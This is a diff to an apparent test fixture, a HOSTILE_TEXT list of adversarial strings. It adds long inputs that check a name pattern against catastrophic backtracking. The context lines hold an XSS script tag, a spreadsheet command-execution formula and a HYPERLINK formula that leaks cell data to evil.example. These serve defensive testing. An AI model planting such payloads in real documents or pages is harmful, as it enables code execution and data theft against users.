@@ -54,6 +54,9 @@ HOSTILE_TEXT = [
     "\u202etxt.exe\u202c vanlig",  # right-to-left override
     "\u2066isolerad\u2069 \u200bnollbredd\ufeff",
     "Z" * 200_000,  # very long
+    "Z-" * 100_000,  # one hyphenated "word" of 200,000 characters: a name pattern must not backtrack over it
+    "O'" * 100_000,  # ... nor over apostrophes that could each start a name (O'Brien)
+    "Anna Berg, " * 20_000,  # many capitalised words in a row
     "ä" * 50_000 + "<script>window.__xss=1</script>",
     "=cmd|' /C calc'!A0",  # spreadsheet formula injection
     '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
